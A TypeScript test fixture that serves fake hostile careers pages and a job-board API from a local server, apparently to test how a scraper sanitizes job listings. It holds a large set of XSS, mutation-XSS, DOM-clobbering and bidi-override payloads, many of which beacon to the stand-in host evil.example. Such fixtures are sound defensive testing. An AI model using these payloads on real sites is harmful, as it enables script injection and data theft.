/** Careers sites that mean harm, as the server under test meets them: one on a platform, one of a company's own. */
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

export const ELSEWHERE = "https://evil.example";
export const BOARD = "https://job-boards.greenhouse.io/mean";
export const OWN_SITE = "https://careers.mean.example/careers";

const act = (name: string) =>
  `top.harmed='${name}';new Image().src='${ELSEWHERE}/${name}'`.replaceAll('"', "'");
const packed = (html: string) => Buffer.from(html).toString("base64");
const image = (name: string) =>
  `data:image/svg+xml;base64,${packed(`<svg xmlns="http://www.w3.org/2000/svg" onload="${act(name)}"/>`)}`;
const page = (name: string) => `data:text/html;base64,${packed(`<script>${act(name)}</script>`)}`;

/** What each description holds beside its words. Each would set `harmed` or ask elsewhere if it were let. */
export const ATTACKS: Readonly<Record<string, string>> = {
  scripts: `<script>${act("script")}</script><script src="${ELSEWHERE}/script.js"></script>
    <scr<script>ipt>${act("nested")}</script><SCRIPT/x>${act("slash")}</SCRIPT>`,
  styles: `<style>@import url(${ELSEWHERE}/import.css); body { display: none }</style>
    <link rel="stylesheet" href="${ELSEWHERE}/linked.css"><link rel="prefetch" href="${ELSEWHERE}/early">
    <div style="position:fixed;inset:0;z-index:2147483647;background:red url(${ELSEWHERE}/cover)">Cover</div>
    <p style="margin-top:-4000px;width:9000px;background-image:url('${ELSEWHERE}/image')">Moved</p>`,
  svg: `<svg onload="${act("svg")}"><script>${act("svg-script")}</script>
    <image href="${ELSEWHERE}/svg-image"/><use href="${image("use")}#x"/>
    <a xlink:href="javascript:${act("svg-link")}"><text y="9">Press here</text></a>
    <animate attributeName="href" values="javascript:${act("animate")}" begin="0s"/></svg>`,
  images: `<img src="x" onerror="${act("img")}"><img src="${ELSEWHERE}/img"><img src="${image("img-data")}">
    <picture><source srcset="${ELSEWHERE}/source"><img srcset="${ELSEWHERE}/srcset 2x"></picture>
    <video poster="${ELSEWHERE}/poster" src="x" onerror="${act("video")}" autoplay></video>
    <audio src="${ELSEWHERE}/audio" autoplay></audio><table background="${ELSEWHERE}/table"></table>`,
  links: `<a href="javascript:${act("link")}">Press here</a> <a href="java&#10;script:${act("break")}">Press here</a>
    <a href="&#1;javascript:${act("control")}">Press here</a> <a href="${page("data-link")}">Press here</a>
    <a href="https://careers.mean.example/x" ping="${ELSEWHERE}/ping" onclick="${act("onclick")}">Our site</a>`,
  frames: `<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>${act("srcdoc")}</script>"></iframe>
    <iframe src="javascript:${act("frame-link")}"></iframe><object data="${page("object")}"></object>
    <embed src="${image("embed")}"><frameset><frame src="${ELSEWHERE}/frameset"></frameset>`,
  forms: `<form action="${ELSEWHERE}/form" id="root"><input name="password" autofocus onfocus="${act("focus")}">
    <input type="image" src="${ELSEWHERE}/button-image"><button formaction="javascript:${act("button")}">Press here</button>
    </form><isindex action="${ELSEWHERE}/index">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh"><base href="${ELSEWHERE}/base/">
    <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`,
  handlers: `<p onclick="${act("p")}" onmouseover="${act("over")}" onpointerenter="${act("enter")}">Press here</p>
    <details open ontoggle="${act("toggle")}"><summary>More</summary>x</details>
    <marquee onstart="${act("marquee")}">x</marquee>
    <p tabindex="0" autofocus onfocus="${act("p-focus")}" contenteditable>x</p>`,
  mutations: `<math><mtext><table><mglyph><style><img src=x onerror="${act("math")}"></style></mglyph></table></math>
    <noscript><p title="</noscript><img src=x onerror=${act("noscript")}>"></noscript>
    <svg></p><style><a id="</style><img src=1 onerror=${act("mutated")}>"></style></svg>
    <select><template><img src=x onerror="${act("template")}"></template></select>
    <xmp><img src=x onerror="${act("xmp")}"></xmp>`,
  clobbering: `<a id="harmed">x</a><form name="body"><input name="attributes"></form><img name="getElementById">
    <p class="mantine-Modal-overlay" id="root" slot="x" is="x-y" data-stop="1" role="alert" hidden>x</p>`,
  backwards: `<p>\u202Eyad yreve reenigne eht yb daer si siht\u202C \u2067and this \u202Dis not</p>`,
  unclosed: `</p></div></section></main></div></body></html><b><i><u><a href="https://careers.mean.example/x">
    <table><tr><td><ul><li><div><p title='<h1>Not the heading</h1>${"wide".repeat(400)}
    <pre>${"w".repeat(3000)}</pre><textarea><!-- <script>${act("unclosed")}`,
};

const ALL = Object.entries(ATTACKS);
const said = (name: string) => `<p>Calm words about ${name}, read by people.</p>`;
export const CALM = (name: string) => `Calm words about ${name}, read by people.`;

const titled = (name: string) =>
  `Engineer of ${name} \u202Edeppilf <img src=x onerror="${act("title")}">`;

function escaped(html: string): string {
  return html.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
}

function board(): string {
  const jobs = ALL.map(([name, attack], at) => ({
    id: 100 + at,
    title: titled(name),
    absolute_url: "javascript:alert(1)",
    location: { name: `\u202EOslo <svg onload="${act("place")}">` },
    departments: [{ name: `Team <b onmouseover="${act("team")}">\u202Emaet` }],
    updated_at: "2026-11-01T10:00:00-04:00",
    content: escaped(said(name) + attack),
  }));
  return JSON.stringify({ jobs, meta: { total: jobs.length } });
}

/** A page on which everything is live; the unclosed comes last, since it would swallow the rest. */
export const LIVE_PAGE = `<!doctype html><html><head><title>Engineer of everything</title>
  <meta property="og:title" content="Engineer of everything"></head><body><main><h1>Engineer of everything</h1>
  <p>You will build things. Requirements: five years of experience. Apply now, with your salary and benefits.</p>
  ${ALL.map(([name, attack]) => said(name) + attack).join("\n")}`;

const MARKED_PAGE = `<!doctype html><html><head><title>Engineer of data</title>
  <script type="application/ld+json">${JSON.stringify({
    "@context": "https://schema.org",
    "@type": "JobPosting",
    title: "Engineer of data",
    datePosted: "2026-10-01",
    hiringOrganization: { "@type": "Organization", name: "Mean" },
    description: ALL.map(([name, attack]) => said(name) + attack).join(""),
  }).replaceAll("<", "\\u003c")}</script></head><body><h1>Engineer of data</h1></body></html>`;

const LISTING = `<!doctype html><html><head><title>Open positions</title></head><body><h1>Open positions</h1>
  <ul><li><a href="/careers/jobs/1-engineer-of-everything">Engineer of everything</a></li>
  <li><a href="/careers/jobs/2-engineer-of-data">Engineer of data</a></li></ul></body></html>`;

const PAGES: Readonly<Record<string, [type: string, body: string]>> = {
  "/boards-api.greenhouse.io/v1/boards/mean/jobs": ["application/json", board()],
  "/careers.mean.example/careers": ["text/html", LISTING],
  "/careers.mean.example/careers/jobs/1-engineer-of-everything": ["text/html", LIVE_PAGE],
  "/careers.mean.example/careers/jobs/2-engineer-of-data": ["text/html", MARKED_PAGE],
};

function answer(request: IncomingMessage, response: ServerResponse): void {
  const found = PAGES[new URL(request.url ?? "/", "http://any").pathname];
  response.writeHead(found === undefined ? 404 : 200, {
    "Content-Type": found?.[0] ?? "text/plain",
  });
  response.end(found?.[1] ?? "Not found");
}

export interface HostileSite {
  address: string;
  stop: () => Promise<void>;
}

export async function startHostileSite(): Promise<HostileSite> {
  const server = createServer(answer);
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://127.0.0.1:${port}`,
    stop: () => new Promise((done) => server.close(() => done())),
  };
}
